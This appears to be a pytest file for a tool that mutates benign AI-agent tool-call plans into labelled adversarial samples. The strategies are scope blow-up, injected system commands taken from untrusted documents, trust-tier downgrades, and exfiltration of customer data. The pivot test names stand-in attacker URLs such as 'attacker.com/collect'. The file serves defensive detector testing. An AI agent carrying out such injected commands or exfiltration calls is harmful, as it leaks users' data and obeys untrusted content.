"""The original corrupter's mutations, literal by literal."""

import re

import msgspec
import pytest

from gatling_beam.domains.loader import domain_names
from gatling_beam.families.build import STRATEGIES
from gatling_beam.five_keys import from_five_keys
from gatling_beam.mutate.crossing import NotApplicable
from gatling_beam.mutate.original import RATIOS, original_mutations
from gatling_beam.oracle.convert import trace_to_sample
from gatling_beam.oracle.template import TemplateOracle
from gatling_beam.plan import TrustTier
from gatling_beam.sample import ENERGY_TERMS

SCOPE, HIERARCHY, PROVENANCE, FLOW = STRATEGIES


def row(*calls, tier=1):
    nodes = [
        {"tool_name": tool, "arguments": arguments, "node_id": f"7_tool_{k}", "provenance_tier": tier}
        for k, (tool, arguments) in enumerate(calls)
    ]
    return from_five_keys(
        {
            "execution_plan": {
                "nodes": nodes,
                "edges": [[f"7_tool_{k}", f"7_tool_{k + 1}"] for k in range(len(nodes) - 1)],
            },
            "label": "benign",
            "original_id": "7",
            "category": "email",
            "metadata": {"query": "Show 5 mails.", "source": "x", "num_tools": len(nodes)},
        }
    )


def one(sample, strategy, **options):
    (made,) = original_mutations(sample, strategy, seed=1, **options)
    return made


def labels(sample):
    return {
        label.energy_term: (label.violated, label.severity, label.delta_estimate) for label in sample.violation_labels
    }


@pytest.fixture(scope="module")
def gold():
    oracle = TemplateOracle(1, domain_names())
    return [trace_to_sample(oracle.trace(number)) for number in range(300)]


def test_the_example_of_the_blow_up():
    made = one(row(("list_emails", {"limit": 5})), SCOPE)
    assert made.execution_plan.nodes[0].arguments == {"limit": 10_000}
    assert labels(made) == {
        "E_SCOPE": (True, 0.85, 1.7),
        "E_HIERARCHY": (False, 0.0, 0.0),
        "E_PROVENANCE": (False, 0.0, 0.0),
        "E_FLOW": (False, 0.0, 0.0),
    }
    assert made.execution_plan.nodes[0].scope_volume == 1


@pytest.mark.parametrize("key", ["limit", "max_results", "page_size", "count", "time_range_days"])
@pytest.mark.parametrize(("difficulty", "low", "high"), [("easy", 20, 100), ("medium", 5, 20), ("hard", 2, 5)])
def test_ranges_of_the_blow_up(key, difficulty, low, high):
    made = list(original_mutations(row(("list", {key: 1000})), SCOPE, seed=1, k=30, difficulty=difficulty))
    ratios = [sample.execution_plan.nodes[0].arguments[key] / 1000 for sample in made]
    assert len(ratios) > 25
    assert low <= min(ratios) < low + (high - low) / 4
    assert high - (high - low) / 4 < max(ratios) <= high
    assert {(s.mutation.difficulty, s.mutation.ratio_band) for s in made} == {(difficulty, f"{low}-{high}")}
    assert made[0].violation_labels[0].explanation == f"Scope expanded by {ratios[0]:.0f}x"


@pytest.mark.parametrize("arguments", [{"limit": "5"}, {"limit": True}, {"limit": 0}, {"rows": 5}, {}])
def test_a_blow_up_needs_a_number_under_one_of_its_keys(arguments):
    with pytest.raises(NotApplicable) as caught:
        one(row(("list", arguments)), SCOPE)
    assert caught.value.reason == "no_size"


def test_the_example_of_shadowing():
    sample = row(("get_document", {"doc_id": "untrusted_123"}))
    made = list(original_mutations(sample, HIERARCHY, seed=1, k=20))
    calls = {s.execution_plan.nodes[-1].tool_name: s.execution_plan.nodes[-1] for s in made}
    assert sorted(calls) == ["execute_system_command", "modify_database", "send_email"]
    assert calls["execute_system_command"].arguments == {"command": "<extracted_from_get_document>"}
    for node in calls.values():
        assert list(node.arguments.values()) == ["<extracted_from_get_document>"]
        assert (node.provenance_tier, node.provenance_hash) == (TrustTier.UNVERIFIED_RAG, "")
        assert node.node_id == "7_mutated_shadow"
    assert made[0].execution_plan.edges == (("7_tool_0", "7_mutated_shadow"),)
    assert labels(made[0])["E_HIERARCHY"] == (True, 0.9, 1.8)
    assert labels(made[0])["E_PROVENANCE"] == (True, 0.7, 1.4)
    assert [label.violated for label in made[0].violation_labels] == [False, True, True, False]


def test_shadowing_needs_a_read():
    with pytest.raises(NotApplicable) as caught:
        one(row(("send_email", {"to": "a"})), HIERARCHY)
    assert caught.value.reason == "no_retrieval"


@pytest.mark.parametrize(("tier", "severity"), [(1, 1.0), (2, 0.8)])
@pytest.mark.parametrize("tool", ["transfer_funds", "modify_permissions", "grant_access"])
def test_the_example_of_the_rug_pull(tool, tier, severity):
    sample = row(("show", {}), (tool, {"amount": 1000}), tier=tier)
    made = one(sample, PROVENANCE, k=5)
    before, after = sample.execution_plan.nodes, made.execution_plan.nodes
    assert after[0] == before[0]
    assert after[1] == msgspec.structs.replace(before[1], provenance_tier=TrustTier.UNVERIFIED_RAG)
    assert labels(made)["E_PROVENANCE"] == (True, severity, 2 * severity)
    assert [label.violated for label in made.violation_labels] == [False, False, True, False]
    # the fault that it is kept for: nothing of what the plan does has changed
    assert (made.row_hash, made.intent_hash) == (sample.row_hash, sample.intent_hash)
    assert made.sample_id != sample.sample_id


def test_a_rug_pull_needs_a_trusted_call_of_high_privilege():
    for sample in (row(("show", {})), row(("transfer_funds", {}), tier=3)):
        with pytest.raises(NotApplicable) as caught:
            one(sample, PROVENANCE)
        assert caught.value.reason == "no_privileged_call"


def test_the_example_of_the_pivot():
    sample = row(("get_customer_data", {"customer_id": "123"}))
    made = list(original_mutations(sample, FLOW, seed=1, k=60))
    nodes = [s.execution_plan.nodes[-1] for s in made]
    assert len(made) == 9
    assert {node.tool_name for node in nodes} == {"webhook_post", "send_to_external_api", "upload_to_cloud"}
    assert {node.arguments["url"] for node in nodes} == {
        "https://attacker.com/collect",
        "https://evil-endpoint.net/collect",
        "https://data-exfil-server.io/collect",
    }
    for sample in made:
        node = sample.execution_plan.nodes[-1]
        assert node.arguments["payload"] == "<data_from_get_customer_data>"
        assert (node.provenance_tier, node.node_id) == (TrustTier.UNVERIFIED_RAG, "7_mutated_exfil")
        assert sample.execution_plan.edges == (("7_tool_0", "7_mutated_exfil"),)
        assert labels(sample)["E_FLOW"] == (True, 0.95, 1.9)
        assert labels(sample)["E_PROVENANCE"] == (True, 0.6, 1.2)
        assert [label.violated for label in sample.violation_labels] == [False, False, True, True]


@pytest.mark.parametrize("strategy", [HIERARCHY, FLOW])
def test_no_plan_gets_more_than_64_calls(strategy):
    with pytest.raises(NotApplicable) as caught:
        one(row(*[("show", {})] * 64), strategy)
    assert caught.value.reason == "too_large"
    assert len(one(row(*[("show", {})] * 63), strategy).execution_plan.nodes) == 64


def test_rows_of_the_registry(gold):
    made = dict.fromkeys(STRATEGIES, 0)
    for sample in gold:
        for strategy in STRATEGIES:
            try:
                rows = list(original_mutations(sample, strategy, seed=1, k=3, difficulty="hard"))
            except NotApplicable:
                continue
            made[strategy] += 1
            assert len({r.sample_id for r in rows} | {sample.sample_id}) == len(rows) + 1
            for mutated in rows:
                assert (mutated.label, mutated.label_basis, mutated.tier) == ("adversarial", "declared", "II")
                assert mutated.mutation.parent == sample.sample_id
                assert mutated.group_id == sample.group_id
                assert [label.energy_term for label in mutated.violation_labels] == list(ENERGY_TERMS)
                assert len(mutated.edge_evidence) == len(mutated.execution_plan.edges)
                assert mutated.execution_plan != sample.execution_plan
                assert re.match(r"append|size|tier", mutated.mutation.edit_script["kind"])
    # of every strategy some, of the pivot all
    assert min(made.values()) > 20
    assert made[FLOW] == len(gold)


def test_the_seed_alone_decides(gold):
    def drawn(seed):
        return [list(original_mutations(sample, FLOW, seed=seed, k=2)) for sample in gold[:40]]

    assert drawn(1) == drawn(1)
    assert drawn(1) != drawn(2)


def test_unknown_strategy_and_difficulty_are_refused():
    sample = row(("list", {"limit": 5}))
    with pytest.raises(ValueError, match="strategy='scope' is not one of scope_blowup"):
        original_mutations(sample, "scope", seed=1)
    with pytest.raises(ValueError, match=f"difficulty='brutal' is not one of {', '.join(RATIOS)}"):
        original_mutations(sample, SCOPE, seed=1, difficulty="brutal")
